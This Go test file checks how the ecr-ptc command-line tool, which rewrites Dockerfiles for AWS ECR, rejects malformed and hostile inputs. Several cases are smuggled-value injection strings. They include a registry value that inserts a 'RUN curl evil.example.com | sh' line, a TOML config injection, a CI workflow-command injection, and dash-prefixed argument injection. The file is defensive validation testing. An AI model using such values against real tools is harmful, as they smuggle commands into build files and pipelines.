package cli_test

import (
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/ecr-ptc/ecr-ptc/shared/sandbox"
)

// The bad-input catalogue: each case gets one clear sentence (with file:line where there is one), a
// nonzero exit, no secret, and writes nothing.
func TestBadInputCatalogue(t *testing.T) {
	w := newWorld(t, sandbox.Config{})
	w.ruleDefaults("docker-hub")
	in := filepath.Join(w.dir, "in")
	os.MkdirAll(in, 0o755)
	write := func(name, body string) string {
		p := filepath.Join(in, name)
		os.WriteFile(p, []byte(body), 0o644)
		return p
	}
	unknownInstr := write("unknown.Dockerfile", "FROM alpine\nFRM alpine\n")
	twoArgs := write("twoargs.Dockerfile", "FROM alpine\n\nFROM a b\n")
	blankBase := write("blank.Dockerfile", "ARG BASE\nFROM ${BASE}\n")
	badRef := write("badref.Dockerfile", "FROM Alpine:3.20\n")
	empty := write("empty.Dockerfile", "")
	badRules := write("rules.json", "{\"pullThroughCacheRules\": [{\"ecrRepositoryPrefix\": \"docker-hub\"}]}")
	badLock := write("lock.json", "{\"version\": 1, \"images\": [{\"ref\": \"node:20\", \"digest\": \"sha256:00\"}]}")
	good := write("Dockerfile", "FROM alpine:3.20\n")
	out := filepath.Join(w.dir, "out")
	os.MkdirAll(out, 0o755)
	// Issue 11's inputs.
	longLine := write("longline.Dockerfile", "FROM "+strings.Repeat("a", 3<<20)+"\n")
	tenMB := write("tenmb.Dockerfile", "FROM "+strings.Repeat("a", 10<<20)+"\n")
	binary := write("binary.Dockerfile", "\x7fELF\x02\x01\x01\x00\x00FROM alpine\n\xff\xfe")
	utf16 := write("utf16.Dockerfile", "\xff\xfeF\x00R\x00O\x00M\x00 \x00a\x00\n\x00")
	zeroLink := filepath.Join(in, "zero.Dockerfile")
	os.Symlink("/dev/zero", zeroLink)
	bigRef := "alpine:" + strings.Repeat("x", 120<<10)
	envDir := filepath.Join(w.dir, "envdir")
	os.MkdirAll(envDir, 0o755)
	// Cases after which not even the Docker config may exist: every output is checked before the login.
	strict := map[string]bool{"--env-file naming a directory": true, "--report-json in a read-only directory": true, "a path starting with -": true, "--concurrency -5": true}

	cases := []struct {
		name string
		args []string
		code int
		want string // in stderr
	}{
		{"unknown instruction", []string{"scan", "-f", unknownInstr}, 1, unknownInstr + ":2: unknown instruction: FRM"},
		{"FROM with two arguments", []string{"rewrite", "-f", twoArgs, "-o", filepath.Join(out, "x"), "--registry", reg}, 1, twoArgs + ":3: "},
		{"blank base after ARG expansion", []string{"scan", "-f", blankBase}, 1, blankBase + ":2: "},
		{"invalid reference", []string{"scan", "-f", badRef}, 1, "must be lowercase"},
		{"empty Dockerfile", []string{"scan", "-f", empty}, 1, empty + ": "},
		{"a directory as a Dockerfile", []string{"rewrite", "-f", in, "--registry", reg}, 1, "is a directory"},
		{"missing path", []string{"scan", filepath.Join(in, "nope")}, 1, "no such file or directory"},
		{"invalid reference to map", []string{"map", "--registry", reg, "Alpine"}, 1, "must be lowercase"},
		{"bad rules file", []string{"scan", good, "--registry", reg, "--rules", badRules}, 1, badRules + ": rule 1: \"upstreamRegistryUrl\" is missing"},
		{"bad --rule", []string{"map", "--registry", reg, "--rule", "docker.io", "alpine"}, 2, "UPSTREAM=PREFIX"},
		{"bad --build-arg", []string{"scan", good, "--build-arg", "=1"}, 2, "NAME=VALUE"},
		{"registry with a path", []string{"map", "--registry", reg + "/x", "alpine"}, 2, "a host has no path"},
		{"bad region", []string{"login", "--region", "mars"}, 2, `"mars" is not an AWS region`},
		{"bad account", []string{"login", "--registries", "12345"}, 2, "12-digit account ID"},
		{"bad iam-policy account", []string{"iam-policy", "--account", "abc"}, 2, "12-digit AWS account ID"},
		{"bad lock file", []string{"setup", good, "--lock", badLock, "--report-json", filepath.Join(out, "r.json")}, 1, badLock + ": image 1: \"node:20\" is not normalised"},
		{"report to a missing directory", []string{"setup", good, "--report-json", filepath.Join(w.dir, "no", "dir", "r.json")}, 1, "cannot write --report-json"},
		{"unknown command", []string{"sutep"}, 2, `unknown command "sutep" for "ecr-ptc"; did you mean setup?`},
		{"unknown --ci", []string{"login", "--ci", "jenkins"}, 2, `--ci "jenkins"`},
		{"10 MB FROM line", []string{"scan", "-f", tenMB}, 1, "more than the 4.0 MiB ecr-ptc reads"},
		{"3 MB FROM line", []string{"scan", "-f", longLine}, 1, "line 1 is 3145733 bytes long; BuildKit reads lines of up to 64 KiB"},
		{"binary Dockerfile", []string{"scan", "-f", binary}, 1, "not a UTF-8 text file"},
		{"UTF-16 Dockerfile", []string{"scan", "-f", utf16}, 1, "is UTF-16"},
		{"Dockerfile symlink to /dev/zero", []string{"scan", "-f", zeroLink}, 1, "not a regular file"},
		{"120 KB reference", []string{"map", "--registry", reg, bigRef}, 1, "bytes)"},
		{"--role-duration 100h", []string{"login", "--role-duration", "100h"}, 2, "STS takes 15m to 12h"},
		{"--role-arn with a newline", []string{"login", "--role-arn", "arn:aws:iam::123456789012:role/ci\nx"}, 2, "is not an IAM role ARN"},
		{"--env-file naming a directory", []string{"setup", good, "--env-file", envDir}, 2, "it is a directory"},
		{"--report-json in a read-only directory", []string{"setup", good, "--report-json", "/proc/ecr-ptc-report.json"}, 2, "does not take new files"},
		{"--rule evil.example=foo", []string{"map", "--registry", reg, "--rule", "evil.example=foo", "alpine"}, 2, "is not an upstream an ECR pull-through cache rule can have"},
		{"--no-docker-config with --docker-config", []string{"login", "--no-docker-config", "--docker-config", out}, 2, "not both"},
		{"--aws-timeout -1s", []string{"login", "--aws-timeout", "-1s"}, 2, "use a positive duration"},
		{"--id-token-var with a newline", []string{"login", "--id-token-var", "X\n::error::evil"}, 2, "is not a variable name"},
		{"--concurrency -5", []string{"setup", good, "--concurrency", "-5"}, 2, "--concurrency -5"},
		{"sandbox --rate-window -1s", []string{"sandbox", "--rate-window", "-1s"}, 2, "--rate-window -1s"},
		{"registry with a newline", []string{"rewrite", "-f", good, "--registry", "x\nRUN curl evil.example.com | sh"}, 2, "control or non-ASCII character"},
		{"mirror-config registry injection", []string{"mirror-config", "--registry", `x"]` + "\n[registry.\"evil\"]"}, 2, "--registry"},
		{"a path starting with -", []string{"setup", "--", "--registry=evil.example.com"}, 2, "starts with '-'"},
		{"--file starting with -", []string{"rewrite", "--file=-x", "--registry", reg}, 2, "starts with '-'"},
		{"metadata file /dev/zero", []string{"report", "--metadata-file", "/dev/zero", "--ci", "none"}, 1, "not a regular file"},
		{"rules file /dev/zero", []string{"map", "--registry", reg, "--rules", "/dev/zero", "alpine"}, 1, "not a regular file"},
		{"lock file /dev/zero", []string{"setup", good, "--lock", "/dev/zero"}, 1, "not a regular file"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			if strict[c.name] {
				os.RemoveAll(filepath.Join(w.dir, "docker"))
			}
			before := listing(t, w.dir)
			r := w.run(c.args...)
			if len(r.stderr) > 1000 {
				t.Errorf("stderr is %d bytes: a file or value was echoed", len(r.stderr))
			}
			if r.code != c.code {
				t.Errorf("exit %d, want %d (stderr %.2000q)", r.code, c.code, r.stderr)
			}
			if !strings.Contains(r.stderr, c.want) {
				t.Errorf("stderr %.2000q lacks %q", r.stderr, c.want)
			}
			msg := strings.TrimSuffix(strings.TrimPrefix(r.stderr, "ecr-ptc: "), "\nRun 'ecr-ptc --help' for usage.\n")
			if strings.Count(strings.TrimSpace(msg), "\n") != 0 {
				t.Errorf("not one sentence: %q", r.stderr)
			}
			if after := listing(t, w.dir); strings.Join(after, "\n") != strings.Join(before, "\n") && (strict[c.name] || !onlyDockerConfig(before, after)) {
				t.Errorf("files changed:\nbefore %v\nafter  %v", before, after)
			}
		})
	}

	// A web identity token file that is missing ends at once, one that is /dev/zero is not read.
	for name, file := range map[string]string{"missing token file": filepath.Join(w.dir, "no-token"), "token file /dev/zero": "/dev/zero"} {
		w.set("AWS_WEB_IDENTITY_TOKEN_FILE", file)
		start := time.Now()
		r := w.run("login", "--role-arn", role)
		if r.code == 0 || strings.Count(strings.TrimSpace(r.stderr), "\n") != 0 || !strings.Contains(r.stderr, "token file") || len(r.stderr) > 1000 {
			t.Errorf("%s: %+v", name, r)
		}
		if d := time.Since(start); d > 5*time.Second {
			t.Errorf("%s: took %v (retried what cannot get better)", name, d)
		}
	}
	delete(w.env, "AWS_WEB_IDENTITY_TOKEN_FILE")
	w.apply()

	// No HOME and no DOCKER_CONFIG: the password is never written under the current directory.
	home, dockerConfig := w.env["HOME"], w.env["DOCKER_CONFIG"]
	delete(w.env, "HOME")
	delete(w.env, "DOCKER_CONFIG")
	w.apply()
	r0 := w.run("login")
	if r0.code != 2 || !strings.Contains(r0.stderr, "set DOCKER_CONFIG or HOME") {
		t.Errorf("login without HOME and DOCKER_CONFIG: %+v", r0)
	}
	if _, err := os.Stat(".docker"); err == nil {
		t.Error("login wrote ./.docker")
	}
	w.set("HOME", home, "DOCKER_CONFIG", dockerConfig)

	// Missing credentials: no keys, no role, nothing in the default chain.
	w.withoutStaticKeys()
	r := w.run("login")
	if r.code != 1 || !strings.Contains(r.stderr, "no AWS credentials") || strings.Count(strings.TrimSpace(r.stderr), "\n") != 0 {
		t.Errorf("missing credentials: %+v", r)
	}
	w.done()
}

// listing is every file under dir, for "nothing was written" checks.
func listing(t *testing.T, dir string) []string {
	var out []string
	filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err == nil && !fi.IsDir() {
			out = append(out, p)
		}
		return nil
	})
	sort.Strings(out)
	return out
}

// onlyDockerConfig: a login that succeeded before a later step failed may have written the Docker
// config; that is the login's job, not a half-written output.
func onlyDockerConfig(before, after []string) bool {
	extra := map[string]bool{}
	for _, p := range after {
		extra[p] = true
	}
	for _, p := range before {
		delete(extra, p)
	}
	for p := range extra {
		if !strings.HasSuffix(p, filepath.Join("docker", "config.json")) {
			return false
		}
	}
	return true
}
